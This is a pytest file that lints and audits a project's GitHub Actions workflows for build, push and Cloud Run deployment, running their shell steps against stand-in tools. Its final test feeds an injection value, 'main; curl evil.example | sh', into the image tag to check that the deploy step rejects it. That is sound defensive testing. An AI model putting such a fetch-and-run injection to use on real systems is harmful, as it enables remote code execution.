"""GitHub workflows: linted, audited, and their shell steps run against stand-in tools."""

from __future__ import annotations

import os
import re
import stat
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
WORKFLOWS = ROOT / ".github" / "workflows"
BIN = Path(sys.executable).parent
PINNED = re.compile(r"uses: (?P<action>[\w.-]+/[\w./-]+)@(?P<ref>\S+)(?P<comment> # v\d[\w.]*)?$")
EXTERNAL_USES = re.compile(r"^\s*-?\s*uses: (?![$.]/)", re.MULTILINE)


def workflow(name: str) -> dict[str, Any]:
    data = yaml.safe_load((WORKFLOWS / name).read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    return data


def triggers(data: dict[str, Any]) -> dict[str, Any]:
    """The ``on:`` mapping (YAML 1.1 reads the bare key ``on`` as True)."""
    value = data.get("on", data.get(True))
    assert isinstance(value, dict)
    return value


def step(data: dict[str, Any], job: str, name: str) -> dict[str, Any]:
    return next(s for s in data["jobs"][job]["steps"] if s.get("name") == name)


def run_step(
    script: str, env: dict[str, str], tmp_path: Path, *tools: str
) -> tuple[subprocess.CompletedProcess[str], list[str]]:
    """Run a step's bash (as GitHub does) with each tool a stand-in logging its argv."""
    log = tmp_path / "calls.log"
    for tool in tools:
        path = tmp_path / tool
        path.write_text(f'#!/bin/bash\necho "{tool} $*" >> {log}\n', encoding="utf-8")
        path.chmod(path.stat().st_mode | stat.S_IEXEC)
    result = subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        env={"PATH": f"{tmp_path}:{os.environ['PATH']}", **env},
        capture_output=True,
        text=True,
        check=False,
    )
    calls = log.read_text(encoding="utf-8").splitlines() if log.exists() else []
    return result, calls


def test_actionlint_passes() -> None:
    result = subprocess.run(
        [str(BIN / "actionlint"), "-no-color"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_zizmor_offline_finds_nothing() -> None:
    result = subprocess.run(
        [str(BIN / "zizmor"), "--offline", "--no-progress", str(WORKFLOWS)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr


@pytest.mark.parametrize("name", ["ci.yml", "build-push.yml", "deploy-app.yml"])
def test_actions_are_pinned_by_commit_sha_with_their_version(name: str) -> None:
    text = (WORKFLOWS / name).read_text(encoding="utf-8")
    lines = [line.strip().removeprefix("- ") for line in text.splitlines()]
    external = [line for line in lines if line.startswith("uses:") and "uses: $/" not in line]
    assert len(external) == len(EXTERNAL_USES.findall(text))
    for line in external:
        match = PINNED.fullmatch(line)
        assert match and re.fullmatch(r"[0-9a-f]{40}", match["ref"]) and match["comment"], line


@pytest.mark.parametrize("name", ["build-push.yml", "deploy-app.yml"])
def test_google_cloud_is_reached_without_keys(name: str) -> None:
    text = (WORKFLOWS / name).read_text(encoding="utf-8")
    assert "credentials_json" not in text
    assert "secrets." not in text
    data = workflow(name)
    for job in data["jobs"].values():
        for s in job.get("steps", []):
            if s.get("uses", "").startswith("google-github-actions/auth@"):
                assert set(s["with"]) == {"workload_identity_provider", "service_account"}
                assert job["permissions"]["id-token"] == "write"
    assert data["permissions"] == {}


def test_ci_lints_and_tests_with_make() -> None:
    data = workflow("ci.yml")
    assert set(triggers(data)) == {"push", "pull_request"}
    commands = [s.get("run") for s in data["jobs"]["test"]["steps"]]
    assert "make test" in commands


def test_images_are_built_on_main_and_tags_for_every_dockerfile() -> None:
    data = workflow("build-push.yml")
    on = triggers(data)
    assert on["push"] == {"branches": ["main"], "tags": ["v*"]}
    assert "pull_request_target" not in on and "workflow_run" not in on
    images = data["jobs"]["push"]["strategy"]["matrix"]["image"]
    assert sorted(images) == sorted(
        p.name.split(".")[1] for p in (ROOT / "docker").glob("Dockerfile.*")
    )
    assert data["jobs"]["deploy"]["if"] == "github.ref == 'refs/heads/main'"


@pytest.mark.parametrize(
    ("ref_type", "ref_name", "expected_tags"),
    [("branch", "main", ["abc123"]), ("tag", "v1.2.0", ["abc123", "v1.2.0"])],
)
def test_build_tags_the_commit_sha_and_the_release_tag(
    tmp_path: Path, ref_type: str, ref_name: str, expected_tags: list[str]
) -> None:
    data = workflow("build-push.yml")
    env = {
        "IMAGE": "app",
        "REPOSITORY": "europe-west4-docker.pkg.dev/team/geocolor",
        "REGISTRY_HOST": "europe-west4-docker.pkg.dev",
        "GITHUB_SHA": "abc123",
        "GITHUB_REF_TYPE": ref_type,
        "GITHUB_REF_NAME": ref_name,
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_REPOSITORY": "team/geocolor",
    }
    script = step(data, "push", "Build")["run"] + step(data, "push", "Push")["run"]
    result, calls = run_step(script, env, tmp_path, "docker", "gcloud")
    assert result.returncode == 0, result.stderr
    build = calls[0].split()
    assert build[:4] == ["docker", "build", "--file", "docker/Dockerfile.app"]
    tags = [build[i + 1] for i, word in enumerate(build) if word == "--tag"]
    assert tags == [f"{env['REPOSITORY']}/app:{tag}" for tag in expected_tags]
    assert calls[1:] == [
        "gcloud auth configure-docker europe-west4-docker.pkg.dev --quiet",
        f"docker push --all-tags {env['REPOSITORY']}/app",
    ]


DEPLOY_ENV = {
    "IMAGE_TAG": "abc123",
    "PROJECT": "team",
    "REGION": "europe-west4",
    "REPOSITORY": "geocolor",
    "SERVICE": "geocolor-app",
    "SERVICE_ACCOUNT": "geocolor-app@team.iam.gserviceaccount.com",
    "NETWORK": "geocolor",
    "SUBNET": "geocolor",
    "NETWORK_TAG": "geocolor-app",
    "MLFLOW_URI": "http://10.20.0.2:5000",
    "MLFLOW_CREDENTIALS_SECRET": "geocolor-mlflow-app-credentials",
    "MODEL_NAME": "geocolor",
    "MODEL_ALIAS": "production",
    "SCENES_URI": "gs://team-data/scenes",
    "SH_CLIENT_ID_SECRET": "geocolor-sh-client-id",
    "SH_CLIENT_SECRET_SECRET": "geocolor-sh-client-secret",
    "APP_PUBLIC": "",
}


@pytest.mark.parametrize(
    ("public", "access"), [("", "--no-allow-unauthenticated"), ("true", "--allow-unauthenticated")]
)
def test_deploy_sets_model_settings_and_secrets_and_stays_private_by_default(
    tmp_path: Path, public: str, access: str
) -> None:
    data = workflow("deploy-app.yml")
    deploy = step(data, "deploy", "Deploy")
    assert set(deploy["env"]) == set(DEPLOY_ENV)
    env = {**DEPLOY_ENV, "APP_PUBLIC": public}
    result, calls = run_step(deploy["run"], env, tmp_path, "gcloud")
    assert result.returncode == 0, result.stderr
    assert len(calls) == 1
    argv = calls[0].split()
    assert argv[:4] == ["gcloud", "run", "deploy", "geocolor-app"]
    options = dict(arg.split("=", 1) for arg in argv[4:-1])
    assert options["--image"] == "europe-west4-docker.pkg.dev/team/geocolor/app:abc123"
    env_vars = dict(pair.split("=", 1) for pair in options["--set-env-vars"].split(","))
    assert env_vars == {
        "GEOCOLOR_MLFLOW_URI": "http://10.20.0.2:5000",
        "GEOCOLOR_MODEL_NAME": "geocolor",
        "GEOCOLOR_MODEL_ALIAS": "production",
        "GEOCOLOR_SCENES": "gs://team-data/scenes",
        "GEOCOLOR_SH_CLIENT_ID_FILE": "/secrets/sh-client-id/value",
        "GEOCOLOR_SH_CLIENT_SECRET_FILE": "/secrets/sh-client-secret/value",
    }
    secrets = dict(pair.split("=", 1) for pair in options["--set-secrets"].split(","))
    assert secrets == {
        "/secrets/sh-client-id/value": "geocolor-sh-client-id:latest",
        "/secrets/sh-client-secret/value": "geocolor-sh-client-secret:latest",
        "/home/geocolor/.mlflow/credentials": "geocolor-mlflow-app-credentials:latest",
    }
    # mounted as files, one folder each: a key without a leading / would be a variable
    assert all(path.startswith("/") for path in secrets)
    assert len({path.rsplit("/", 1)[0] for path in secrets}) == len(secrets)
    assert options["--network-tags"] == "geocolor-app"
    assert argv[-1] == access


def test_deploy_refuses_an_image_tag_that_is_not_a_tag(tmp_path: Path) -> None:
    deploy = step(workflow("deploy-app.yml"), "deploy", "Deploy")
    env = {**DEPLOY_ENV, "IMAGE_TAG": "main; curl evil.example | sh"}
    result, calls = run_step(deploy["run"], env, tmp_path, "gcloud")
    assert (result.returncode, calls) == (1, [])
    assert "image_tag must be a Docker tag" in result.stdout
